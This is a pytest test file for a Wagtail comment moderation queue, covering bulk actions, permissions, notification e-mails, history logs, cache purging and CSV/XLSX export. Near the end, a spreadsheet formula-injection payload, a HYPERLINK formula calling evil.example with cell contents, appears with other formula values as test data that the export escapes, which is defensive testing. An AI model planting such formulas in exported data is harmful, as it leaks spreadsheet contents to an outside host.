"""The moderation queue in the Wagtail admin, and the e-mails moderation sends."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import Group
from django.utils import timezone
from wagtail.models import ModelLogEntry

from discussion import moderation
from discussion.models import CommentStatus, VisitorComment
from editorial.roles import MODERATORS
from tests.comments import comment_post_url
from tests.factories import NewsPageFactory, UserFactory, VisitorCommentFactory

pytestmark = pytest.mark.django_db

QUEUE = "/admin/visitor-comments/"


def bulk_url(action, *comments):
    ids = "&".join(f"id={comment.pk}" for comment in comments)
    return f"/admin/bulk/discussion/visitorcomment/{action}/?{ids}&next={QUEUE}"


def edit_url(comment):
    return f"{QUEUE}edit/{comment.pk}/"


def reply_url(comment):
    return f"{QUEUE}reply/{comment.pk}/"


def row_action_url(comment, action):
    return f"{QUEUE}moderate/{comment.pk}/{action}/"


def edit_form(comment, **fields):
    return {
        "author_name": comment.author_name,
        "author_email": comment.author_email,
        "author_url": comment.author_url,
        "text": comment.text,
        "status": comment.status,
        **fields,
    }


def statuses(*comments):
    return [VisitorComment.objects.get(pk=comment.pk).status for comment in comments]


def log_actions(comment):
    return list(
        ModelLogEntry.objects.filter(object_id=str(comment.pk))
        .order_by("timestamp", "pk")
        .values_list("action", "user__username")
    )


# -- Bulk actions ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("action", "before", "after"),
    [
        ("approve", CommentStatus.PENDING, CommentStatus.APPROVED),
        ("unapprove", CommentStatus.APPROVED, CommentStatus.PENDING),
        ("spam", CommentStatus.PENDING, CommentStatus.SPAM),
        ("not-spam", CommentStatus.SPAM, CommentStatus.PENDING),
        ("trash", CommentStatus.APPROVED, CommentStatus.TRASH),
        ("restore", CommentStatus.TRASH, CommentStatus.PENDING),
    ],
)
def test_bulk_action_changes_the_status_of_the_selected_comments_and_logs_it(
    moderator_client, news, action, before, after
):
    selected = VisitorCommentFactory.create_batch(2, page=news, status=before)
    other = VisitorCommentFactory(page=news, status=before)

    confirmation = moderator_client.get(bulk_url(action, *selected))
    response = moderator_client.post(bulk_url(action, *selected))

    assert confirmation.status_code == 200
    assert selected[0].author_name in confirmation.content.decode()
    assert response.status_code == 302
    assert response.url == QUEUE
    assert statuses(*selected, other) == [after, after, before]
    assert log_actions(selected[0]) == [(moderation.STATUS_LOG_ACTIONS[after], "moderator")]


def test_bulk_action_leaves_comments_it_does_not_apply_to(moderator_client, news):
    spam = VisitorCommentFactory(page=news, status=CommentStatus.SPAM)
    approved = VisitorCommentFactory(page=news, status=CommentStatus.APPROVED)

    moderator_client.post(bulk_url("not-spam", spam, approved))

    assert statuses(spam, approved) == [CommentStatus.PENDING, CommentStatus.APPROVED]


def test_bulk_delete_deletes_the_comments_and_logs_who_did_it(moderator_client, news):
    selected = VisitorCommentFactory.create_batch(2, page=news, status=CommentStatus.SPAM)
    kept = VisitorCommentFactory(page=news, status=CommentStatus.SPAM)

    response = moderator_client.post(bulk_url("delete", *selected))

    assert response.status_code == 302
    assert list(VisitorComment.objects.all()) == [kept]
    assert log_actions(selected[0]) == [("wagtail.delete", "moderator")]


def test_select_all_in_listing_acts_on_the_listed_comments_only(moderator_client, news):
    pending = VisitorCommentFactory.create_batch(2, page=news, status=CommentStatus.PENDING)
    approved = VisitorCommentFactory(page=news, status=CommentStatus.APPROVED)

    # The queue shows pending comments by default; "select all" sends its query along.
    moderator_client.post("/admin/bulk/discussion/visitorcomment/trash/?id=all")

    assert statuses(*pending, approved) == [
        CommentStatus.TRASH,
        CommentStatus.TRASH,
        CommentStatus.APPROVED,
    ]


def test_bulk_approval_emails_authors_and_the_author_replied_to(
    moderator_client, news, django_capture_on_commit_callbacks, deliver_mail
):
    parent = VisitorCommentFactory(
        page=news, author_email="parent@example.net", notify_of_replies=True
    )
    reply = VisitorCommentFactory(
        page=news, parent=parent, status=CommentStatus.PENDING, author_email="reply@example.net"
    )

    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(bulk_url("approve", reply))

    assert sorted(m.to[0] for m in deliver_mail()) == ["parent@example.net", "reply@example.net"]


# -- Row actions, edit form -----------------------------------------------------------------


def test_row_action_changes_one_comment_and_returns_to_the_queue(moderator_client, news):
    comment = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)

    response = moderator_client.post(
        row_action_url(comment, "spam"), {"next": f"{QUEUE}?status=pending"}
    )

    assert response.url == f"{QUEUE}?status=pending"
    assert statuses(comment) == [CommentStatus.SPAM]
    assert log_actions(comment) == [("discussion.spam", "moderator")]


def test_row_action_needs_a_post(moderator_client, news):
    comment = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)

    response = moderator_client.get(row_action_url(comment, "approve"))

    assert response.status_code == 405
    assert statuses(comment) == [CommentStatus.PENDING]


def test_queue_rows_offer_the_actions_of_their_status_and_a_link_to_the_page(
    moderator_client, news
):
    pending = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)
    approved = VisitorCommentFactory(page=news, status=CommentStatus.APPROVED)

    html = moderator_client.get(f"{QUEUE}?status=all").content.decode()

    assert row_action_url(pending, "approve") in html
    assert row_action_url(approved, "unapprove") in html
    assert row_action_url(approved, "approve") not in html
    assert reply_url(approved) in html
    assert f'href="{news.url}#comment-{approved.pk}"' in html
    assert f"#comment-{pending.pk}" not in html


def test_status_changed_in_the_edit_form_goes_through_moderation(
    moderator_client, news, django_capture_on_commit_callbacks, deliver_mail
):
    comment = VisitorCommentFactory(
        page=news, status=CommentStatus.PENDING, author_email="ana@example.net"
    )

    with django_capture_on_commit_callbacks(execute=True):
        response = moderator_client.post(
            edit_url(comment), edit_form(comment, text="Typo fixed.", status="approved")
        )

    comment.refresh_from_db()
    assert response.status_code == 302
    assert (comment.status, comment.text) == (CommentStatus.APPROVED, "Typo fixed.")
    assert comment.author_notified_at is not None
    assert [m.to for m in deliver_mail()] == [["ana@example.net"]]
    assert log_actions(comment) == [
        ("wagtail.edit", "moderator"),
        ("discussion.approve", "moderator"),
    ]


# -- The queue ------------------------------------------------------------------------------


def test_queue_shows_pending_comments_by_default_with_the_count_of_each_status(
    moderator_client, news
):
    VisitorCommentFactory(page=news, status=CommentStatus.PENDING, text="Awaiting a look.")
    VisitorCommentFactory(page=news, status=CommentStatus.PENDING, text="Another one waiting.")
    VisitorCommentFactory(page=news, status=CommentStatus.APPROVED, text="Already public.")
    VisitorCommentFactory(page=news, status=CommentStatus.SPAM, text="Cheap pills.")

    html = moderator_client.get(QUEUE).content.decode()

    assert "Awaiting a look." in html
    assert "Another one waiting." in html
    assert "Already public." not in html
    assert "Cheap pills." not in html
    assert "Pending (2)" in html
    assert "Approved (1)" in html
    assert "Spam (1)" in html
    assert "Trash (0)" in html


@pytest.mark.parametrize(
    ("status", "shown"), [("spam", ["Cheap pills."]), ("all", ["Cheap pills.", "Waiting."])]
)
def test_queue_filters_by_status(moderator_client, news, status, shown):
    VisitorCommentFactory(page=news, status=CommentStatus.SPAM, text="Cheap pills.")
    VisitorCommentFactory(page=news, status=CommentStatus.PENDING, text="Waiting.")

    html = moderator_client.get(f"{QUEUE}?status={status}").content.decode()

    assert [text for text in ["Cheap pills.", "Waiting."] if text in html] == shown


@pytest.mark.parametrize("query", ["ana.lopes@example", "203.0.113", "evaluation method"])
def test_moderator_finds_comments_by_email_ip_or_text(moderator_client, news, query):
    VisitorCommentFactory(
        page=news,
        status=CommentStatus.PENDING,
        author_name="Ana Lopes",
        author_email="ana.lopes@example.net",
        ip_address="203.0.113.9",
        text="A question on the evaluation method.",
    )
    VisitorCommentFactory(page=news, status=CommentStatus.PENDING, author_name="Someone Else")

    response = moderator_client.get(f"{QUEUE}results/", {"q": query})

    html = response.content.decode()
    assert "Ana Lopes" in html
    assert "Someone Else" not in html


def test_csv_export_contains_the_comment(moderator_client, news):
    VisitorCommentFactory(
        page=news,
        status=CommentStatus.PENDING,
        author_email="ana@example.net",
        ip_address="203.0.113.9",
        text="Exported text.",
    )

    response = moderator_client.get(QUEUE, {"export": "csv"})

    content = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(content)))
    assert response["Content-Type"].startswith("text/csv")
    assert len(rows) == 1
    assert rows[0]["E-mail"] == "ana@example.net"
    assert rows[0]["IP address"] == "203.0.113.9"
    assert rows[0]["Comment"] == "Exported text."
    assert rows[0]["Page URL"] == news.full_url


@pytest.mark.parametrize(
    "url", [lambda c: QUEUE, edit_url, reply_url, lambda c: f"{QUEUE}history/{c.pk}/"]
)
def test_editor_is_sent_back_to_the_dashboard(client, editor, news, url):
    comment = VisitorCommentFactory(page=news, author_email="secret@example.net")
    client.force_login(editor)

    response = client.get(url(comment), follow=True)

    assert response.redirect_chain == [("/admin/", 302)]
    html = response.content.decode()
    assert "Sorry, you do not have permission to access this area." in html
    assert "secret@example.net" not in html
    assert "192.0.2.10" not in html


def test_editor_cannot_moderate_through_bulk_or_row_actions(client, editor, news):
    comment = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)
    client.force_login(editor)

    client.post(bulk_url("approve", comment))
    client.post(bulk_url("delete", comment))
    client.post(row_action_url(comment, "approve"))

    assert statuses(comment) == [CommentStatus.PENDING]


def test_editor_sees_neither_the_menu_item_nor_the_panel(client, editor, news):
    VisitorCommentFactory(page=news, status=CommentStatus.PENDING)
    client.force_login(editor)

    html = client.get("/admin/").content.decode()

    assert QUEUE not in html
    assert "awaits moderation" not in html


def test_menu_label_carries_the_pending_count(moderator_client, news):
    VisitorCommentFactory.create_batch(3, page=news, status=CommentStatus.PENDING)
    VisitorCommentFactory(page=news, status=CommentStatus.APPROVED)

    html = moderator_client.get("/admin/").content.decode()

    assert "Comments (3)" in html


def test_dashboard_panel_lists_the_latest_pending_comments(moderator_client, news):
    for n in range(6):
        VisitorCommentFactory(page=news, status=CommentStatus.PENDING, author_name=f"Author {n}")
    VisitorCommentFactory(page=news, status=CommentStatus.APPROVED, author_name="Approved one")

    html = moderator_client.get("/admin/").content.decode()

    assert "6 comments await moderation" in html
    assert "Author 5" in html
    assert "Author 1" in html
    assert "Author 0" not in html  # only the latest five
    assert "Approved one" not in html
    assert f'href="{QUEUE}"' in html


# -- E-mails --------------------------------------------------------------------------------


def test_moderators_email_links_to_the_queue(
    client, news, comment_data, moderator, django_capture_on_commit_callbacks, deliver_mail
):
    with django_capture_on_commit_callbacks(execute=True):
        client.post(comment_post_url(news), comment_data(), REMOTE_ADDR="198.51.100.7")

    outbox = deliver_mail()
    assert [m.to for m in outbox] == [["mod@example.org"]]
    assert f"https://liaise.example.org{QUEUE}" in outbox[0].body


def test_approved_author_gets_a_link_to_the_comment(
    moderator_client, news, django_capture_on_commit_callbacks, deliver_mail
):
    comment = VisitorCommentFactory(
        page=news, status=CommentStatus.PENDING, author_email="ana@example.net"
    )

    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(row_action_url(comment, "approve"))

    outbox = deliver_mail()
    assert [m.to for m in outbox] == [["ana@example.net"]]
    assert f"{news.full_url}#comment-{comment.pk}" in outbox[0].body
    assert news.full_url.startswith("http")


def test_author_is_emailed_only_once(
    moderator_client, news, django_capture_on_commit_callbacks, deliver_mail
):
    comment = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)

    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(row_action_url(comment, "approve"))
    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(row_action_url(comment, "unapprove"))
    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(row_action_url(comment, "approve"))

    assert statuses(comment) == [CommentStatus.APPROVED]
    assert len(deliver_mail()) == 1


# -- Reply from the admin -------------------------------------------------------------------


def test_reply_from_the_admin_is_published_as_the_site_and_emails_the_parent_author(
    moderator_client, client, news, django_capture_on_commit_callbacks, deliver_mail
):
    parent = VisitorCommentFactory(
        page=news, author_email="ana@example.net", notify_of_replies=True
    )

    form = moderator_client.get(reply_url(parent))
    with django_capture_on_commit_callbacks(execute=True):
        response = moderator_client.post(reply_url(parent), {"text": "Thank you, Ana."})

    reply = VisitorComment.objects.get(parent=parent)
    assert form.status_code == 200
    assert response.status_code == 302
    assert reply.status == CommentStatus.APPROVED
    assert reply.is_site_reply
    assert reply.author_name == "LIAISE 2"
    assert reply.author_email == "noreply@localhost"
    assert reply.page_id == parent.page_id
    outbox = deliver_mail()
    assert [m.to for m in outbox] == [["ana@example.net"]]
    body = outbox[0].body
    assert f"{news.full_url}#comment-{reply.pk}" in body
    assert "Thank you, Ana." in client.get(news.url).content.decode()

    unsubscribe = re.search(r"https://liaise.example.org(/\S+/unsubscribe/\S+/)", body).group(1)
    assert "Stop these e-mails" in client.get(unsubscribe).content.decode()
    client.post(unsubscribe)
    parent.refresh_from_db()
    assert not parent.notify_of_replies


def test_reply_is_refused_to_a_comment_that_is_not_approved(moderator_client, news):
    pending = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)

    response = moderator_client.post(reply_url(pending), {"text": "Too early."})

    assert response.status_code == 302
    assert not VisitorComment.objects.filter(parent=pending).exists()


# -- History --------------------------------------------------------------------------------


def test_history_shows_who_moderated_what(moderator_client, news):
    comment = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)
    other_moderator = UserFactory(
        username="second", first_name="Second", groups=[Group.objects.get(name=MODERATORS)]
    )

    moderator_client.post(row_action_url(comment, "approve"))
    moderator_client.force_login(other_moderator)
    moderator_client.post(row_action_url(comment, "trash"))

    assert log_actions(comment) == [
        ("discussion.approve", "moderator"),
        ("discussion.trash", "second"),
    ]
    html = moderator_client.get(f"{QUEUE}history/{comment.pk}/").content.decode()
    assert "Approved (was Pending)" in html
    assert "Moved to the trash (was Approved)" in html
    assert "Moderator" in html
    assert "Second" in html


# -- Caches ---------------------------------------------------------------------------------


def test_approving_purges_the_page_from_the_frontend_cache_when_there_is_one(
    moderator_client, news, monkeypatch, django_capture_on_commit_callbacks
):
    purged = []
    monkeypatch.setattr(moderation.apps, "is_installed", lambda name: True)
    monkeypatch.setattr("wagtail.contrib.frontend_cache.utils.purge_page_from_cache", purged.append)
    pending = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)
    spam = VisitorCommentFactory(page=news, status=CommentStatus.PENDING)

    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(row_action_url(spam, "spam"))
    assert purged == []  # the public thread did not change

    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(row_action_url(pending, "approve"))
    assert purged == [news]


def test_deleting_one_comment_logs_it_and_purges_the_page(
    moderator_client, news, monkeypatch, django_capture_on_commit_callbacks
):
    purged = []
    monkeypatch.setattr(moderation.apps, "is_installed", lambda name: True)
    monkeypatch.setattr("wagtail.contrib.frontend_cache.utils.purge_page_from_cache", purged.append)
    comment = VisitorCommentFactory(page=news, status=CommentStatus.APPROVED)

    with django_capture_on_commit_callbacks(execute=True):
        response = moderator_client.post(f"{QUEUE}delete/{comment.pk}/")

    assert response.status_code == 302
    assert not VisitorComment.objects.exists()
    assert log_actions(comment) == [("wagtail.delete", "moderator")]
    assert purged == [news]


def test_there_is_no_comment_chooser_for_other_admin_users(client, editor, news):
    VisitorCommentFactory(page=news, author_name="Ana Lopes")
    client.force_login(editor)

    response = client.get("/admin/snippets/choose/discussion/visitorcomment/", follow=True)

    assert response.status_code == 404
    assert "Ana Lopes" not in response.content.decode()


def test_queue_filters_by_page_and_date(moderator_client, news):
    other_page = NewsPageFactory(parent=news.get_parent(), title="Another news item")
    VisitorCommentFactory(page=news, status=CommentStatus.PENDING, text="On the seminar.")
    VisitorCommentFactory(page=other_page, status=CommentStatus.PENDING, text="On the other.")
    VisitorCommentFactory(
        page=news,
        status=CommentStatus.PENDING,
        text="Long ago.",
        created_at=timezone.now() - timedelta(days=40),
    )
    since = (timezone.now() - timedelta(days=10)).date().isoformat()

    html = moderator_client.get(QUEUE, {"page": news.pk, "created_at_from": since}).content.decode()

    assert "On the seminar." in html
    assert "On the other." not in html
    assert "Long ago." not in html


def test_editing_a_published_comment_purges_its_page(
    moderator_client, news, monkeypatch, django_capture_on_commit_callbacks
):
    purged = []
    monkeypatch.setattr(moderation.apps, "is_installed", lambda name: True)
    monkeypatch.setattr("wagtail.contrib.frontend_cache.utils.purge_page_from_cache", purged.append)
    comment = VisitorCommentFactory(page=news, status=CommentStatus.APPROVED)

    with django_capture_on_commit_callbacks(execute=True):
        moderator_client.post(edit_url(comment), edit_form(comment, text="Reworded."))

    assert purged == [news]
    assert log_actions(comment) == [("wagtail.edit", "moderator")]


HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def exported_rows(moderator_client):
    response = moderator_client.get(QUEUE, {"export": "csv", "status": "all"})
    content = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("=1+1", "'=1+1"),
        (HOSTILE_NAME, f"'{HOSTILE_NAME}"),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("Ana = Lopes", "Ana = Lopes"),
    ],
)
def test_csv_export_writes_formulas_as_text(moderator_client, news, name, cell):
    VisitorCommentFactory(page=news, author_name=name)

    [row] = exported_rows(moderator_client)

    assert row["Name"] == cell


def test_csv_export_keeps_numbers_as_numbers(moderator_client, news):
    comment = VisitorCommentFactory(page=news, author_name="=1+1")

    [row] = exported_rows(moderator_client)

    assert row["ID"] == str(comment.pk)


def test_xlsx_export_stores_formulas_as_text(moderator_client, news):
    from openpyxl import load_workbook

    VisitorCommentFactory(page=news, author_name=HOSTILE_NAME)

    response = moderator_client.get(QUEUE, {"export": "xlsx", "status": "all"})

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    name_cell = sheet[2][headings.index("Name")]
    assert name_cell.data_type == "s"
    assert name_cell.value == HOSTILE_NAME
